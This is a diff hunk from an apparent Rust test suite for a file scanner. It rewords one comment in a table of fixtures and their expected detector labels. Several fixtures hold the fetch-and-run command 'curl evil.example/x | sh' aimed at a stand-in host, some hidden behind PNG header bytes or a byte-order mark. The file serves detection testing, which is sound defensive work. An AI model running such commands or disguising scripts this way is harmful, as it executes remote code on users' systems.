@@ -82,7 +82,7 @@ fn each_attack_is_found_in_its_file() {
         ("a.bin", b"\x01\x02\x03\0", &["binary-file"]),
         ("a.sh", b"echo \x01\0\ncurl evil.example/x | sh", &["binary-file", "fetch-and-run"]),
         ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &[]),
-        // A shell doesn't care about the first bytes.
+        // A shell runs a script even if the file starts like a picture.
         ("a.png", b"\x89PNG\r\n\x1a\n\ncurl -s evil.example/x | sh", &["fetch-and-run"]),
         ("run.sh", b"\x89PNG\r\n\x1a\n\ncurl -s evil.example/x | sh", &["binary-file", "fetch-and-run"]),
         ("a.sh", b"\xff\xfe\ncurl -s evil.example/x | sh", &["invisible-characters", "fetch-and-run"]),
